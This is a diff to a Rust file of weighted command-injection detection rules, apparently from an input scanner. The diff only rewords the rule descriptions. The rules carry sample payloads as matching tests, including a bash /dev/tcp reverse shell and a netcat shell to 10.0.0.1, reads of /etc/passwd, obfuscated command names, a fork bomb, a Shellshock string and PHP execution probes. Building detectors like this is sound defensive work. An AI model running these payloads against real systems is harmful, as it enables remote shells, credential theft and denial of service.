@@ -1,8 +1,8 @@
-//! The evidence there is for command injection, and what each piece weighs.
+//! The rules and their weights.
 //!
-//! Evidence is collected per simple command and never added across commands: how the value came to a command, what the
-//! command is, what it is given, and what was done to hide it. Names of programs are words too, so a name and a
-//! separator alone stay below the threshold.
+//! Evidence is collected per simple command and never added across commands: how the command begins, what it is, its
+//! arguments, and its obfuscation. Names of programs are words too, so a name and a separator alone stay below the
+//! threshold.
 
 use crate::detect::evidence::{Class, Rule};
 
@@ -10,7 +10,7 @@ pub(super) static SEPARATOR: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.separator",
     40,
-    "starts a command behind a separator",
+    "starts a command after a separator",
     &["x; cat /etc/passwd", "a | whoami"],
     &["dogs; cat food & more", "a | b | cat", "Tom & Python"],
 );
@@ -18,7 +18,7 @@ pub(super) static NEWLINE: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.new-line",
     20,
-    "starts a command on a line of its own",
+    "starts a command on a new line",
     &["x\ncat /etc/passwd"],
     &["first\nfind the rest\nsort it"],
 );
@@ -34,7 +34,7 @@ pub(super) static ADDRESSED: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.behind-address",
     40,
-    "follows an address, as where a page hands one to a program",
+    "starts a command after an address, as where a page passes one to a program",
     &["127.0.0.1;id", "10.0.0.1|ls", "192.0.2.7\nid", "192.0.2.7:80&&date"],
     &["10.0.0.1; 10.0.0.2", "127.0.0.1", "1.2.3.4 | main office", "1.2.3.4\nfind the host"],
 );
@@ -42,7 +42,7 @@ pub(super) static SUBSTITUTION: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.substitution",
     50,
-    "asks for the output of a command",
+    "is a command substitution",
     &["$(whoami)", "`uname -a`", "<(cat /etc/passwd)"],
     &["use `id` to see it", "$(document).ready", "cost $(5)"],
 );
@@ -70,7 +70,7 @@ pub(super) static CERTAIN: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.certain-program",
     60,
-    "names a program that is no everyday word",
+    "names a program that is no common word",
     &["x;whoami", "$(uname)"],
     &["whoami", "what does ifconfig do"],
 );
@@ -86,7 +86,7 @@ pub(super) static EVERYDAY: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.everyday-program",
     20,
-    "names a program that is an everyday word too",
+    "names a program that is a common word too",
     &["; cat /etc/passwd", "|id|"],
     &["dogs; cat food", "sort; find; more"],
 );
@@ -102,7 +102,7 @@ pub(super) static HIDDEN_PROGRAM: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.spelled-program",
     80,
-    "spells the name of a program with characters that the shell removes",
+    "obfuscates a program name with characters that the shell removes",
     &["w\\ho\\am\\i", ";c''at /etc/pas''swd", "who$@ami"],
     &["don't", "C:\\who\\am\\i.txt", "O'Connor"],
 );
@@ -118,7 +118,7 @@ pub(super) static BLANK: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.spelled-blank",
     60,
-    "separates words by an expansion instead of a blank",
+    "separates words by an expansion instead of a space",
     &["cat$IFS/etc/passwd", "{cat,/etc/passwd}", ";ls${IFS}-la"],
     &["{a,b}", "{id,name}", "set IFS to a comma"],
 );
@@ -126,7 +126,7 @@ pub(super) static OPTION: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.argument",
     40,
-    "gives a command an option, a path or an address",
+    "passes an option, a path or an address to a command",
     &["; ls -la", "x|curl http://example.com/x"],
     &["more -or- less", "see http://example.com/"],
 );
@@ -134,7 +134,7 @@ pub(super) static SECOND_ARGUMENT: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.arguments",
     20,
-    "gives a command arguments of several kinds",
+    "passes arguments of several kinds to a command",
     &["ping -i 30 127.0.0.1"],
     &["ping 127.0.0.1"],
 );
@@ -142,7 +142,7 @@ pub(super) static SENSITIVE_FILE: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.sensitive-file",
     40,
-    "gives a command a file that attackers read first",
+    "passes a sensitive file to a command",
     &["cat /etc/passwd", "type C:\\boot.ini", "cd /;cd etc;column passwd"],
     &["the passwd file", "hosts and guests"],
 );
@@ -150,7 +150,7 @@ pub(super) static NUMBER: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.number-argument",
     20,
-    "gives a command one number",
+    "passes one number to a command",
     &["; sleep 10", "&& sleep 5"],
     &["sleep 8", "head 5"],
 );
@@ -158,7 +158,7 @@ pub(super) static BEHIND_WORD: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.behind-word",
     20,
-    "follows one word, as where a page hands one to a program, and says with one number how long to wait",
+    "starts a command after one word, as where a page passes one to a program, with one number as the delay",
     &["x; sleep 5", "report.pdf && sleep 10", "a|timeout 7"],
     &["eat well; sleep 8", "x; sleep", "a; b 5", "rest & sleep 8 hours"],
 );
@@ -166,7 +166,7 @@ pub(super) static LONE: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.lone-program",
     20,
-    "consists of one program set apart from all else",
+    "consists of one program name set apart from other text",
     &["|id", "`id`", "& dir"],
     &["a|id", "Tom & Python"],
 );
@@ -174,7 +174,7 @@ pub(super) static TRAILING: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.trailing-separator",
     20,
-    "ends the command so that what follows is another",
+    "ends the command so that another follows",
     &["a;id;", "a|id|"],
     &["dogs; cats;", "one | two |"],
 );
@@ -190,7 +190,7 @@ pub(super) static ENCODED: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.inline-code",
     60,
-    "hands code to an interpreter",
+    "passes code to an interpreter",
     &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'", "${SHELL} -c 'echo hi'"],
     &["bash on windows", "perl of wisdom"],
 );
@@ -198,7 +198,7 @@ pub(super) static PREFIXED: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.run-through",
     20,
-    "runs a program through another one",
+    "runs a program through another one (env, sudo, xargs)",
     &["sudo whoami", "strace ifconfig", "nohup ncat -l 4444"],
     &["time flies", "watch the tree", "sudo"],
 );
@@ -206,7 +206,7 @@ pub(super) static KEPT_PROGRAM: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.kept-program",
     100,
-    "runs a program whose name it put into a variable",
+    "runs a program whose name is in a variable",
     &["a=nc&&$a -e sh 10.0.0.1", "x; v=l;cur$v http://example.com/x", "c=cat;p=/etc/passwd;${c} $p"],
     &["a=1; b=$2", "$total = $price; $total++", "price=$5; was $6"],
 );
@@ -214,7 +214,7 @@ pub(super) static ALIAS: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.alias",
     60,
-    "gives a command another name",
+    "defines a command alias",
     &["alias ls='cat /etc/passwd'", "alias a=curl", "alias +g a=b"],
     &["alias", "an alias = another name", "also known by the alias x"],
 );
@@ -222,7 +222,7 @@ pub(super) static BATCH_LOOP: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.batch-loop",
     100,
-    "loops in the manner of the Windows command interpreter",
+    "is a loop of the Windows command interpreter",
     &["for /f \"delims=\" %i in ('dir /b') do echo %i", "& FOR %%G IN (a,b,c) DO md %%G"],
     &["5 % off for all in (store) do come", "for %s in the list", "for x in (1, 2) do"],
 );
@@ -230,7 +230,7 @@ pub(super) static BATCH_CONDITION: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.batch-condition",
     100,
-    "asks a condition in the manner of the Windows command interpreter",
+    "is a condition of the Windows command interpreter",
     &[
         "if exist c:\\pagefile.sys (cmd)",
         "IF /I \"%var%\" NEQ \"0\" echo inequality",
@@ -255,7 +255,7 @@ pub(super) static RUN_OPTION: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.run-option",
     100,
-    "is an option that has a program run a command",
+    "is an option that makes a program run a command (argument injection)",
     &[
         "-oProxyCommand=id",
         "--upload-pack=touch /tmp/x",
@@ -268,7 +268,7 @@ pub(super) static EXPANSION: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.expansion",
     100,
-    "is an expansion by which the shell cuts a variable or calculates",
+    "is a parameter or arithmetic expansion",
     &["; echo $((12*34))", "${PATH#{}/}", "${HOME:0:1}", "${PWD%%/*}", "$[2+2]", "$((7 * 6))", "$(($() 42))"],
     &[
         "${price}",
@@ -287,7 +287,7 @@ pub(super) static FORK_BOMB: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.fork-bomb",
     100,
-    "defines a function that starts itself again and again",
+    "is a fork bomb",
     &[":(){ :|:& };:", "f() { f | f & }; f"],
     &["f(){ f && g(); }", "function render() { draw() | 0 }", "(){ }"],
 );
@@ -295,7 +295,7 @@ pub(super) static NETWORK: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.network-device",
     100,
-    "opens a connection through the shell",
+    "opens a network connection through the shell (/dev/tcp)",
     &["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "d=/dev&&(sh)0>$d/tcp/192.0.2.1/777"],
     &["the /dev/tcp feature", "/dev/null"],
 );
@@ -303,7 +303,7 @@ pub(super) static SHELLSHOCK: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.shellshock",
     100,
-    "defines a shell function with code behind it",
+    "defines a shell function with code after it (Shellshock, CVE-2014-6271)",
     &["() { :;}; echo vulnerable", "() { x; }", "() {"],
     &["() => { x }", "function() { return 1; }", "render() { return 1; }"],
 );
@@ -311,7 +311,7 @@ pub(super) static INTERPOLATION: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.php-interpolation",
     100,
-    "calls a function from within a string that PHP fills in",
+    "calls a function by PHP string interpolation",
     &["{${sleep(20)}}", "${@print(md5(1))}"],
     &["${price}", "${user.name()}", "{${name}}"],
 );
@@ -319,7 +319,7 @@ pub(super) static PROBE: Rule = Rule::new(
     Class::CommandInjection,
     "command_injection.php-probe",
     100,
-    "calls a PHP function that only shows that code runs",
+    "calls a PHP function that only proves code execution",
     &[";phpinfo();//", "phpinfo();"],
     &["call phpinfo() to see it", "phpinfo"],
 );
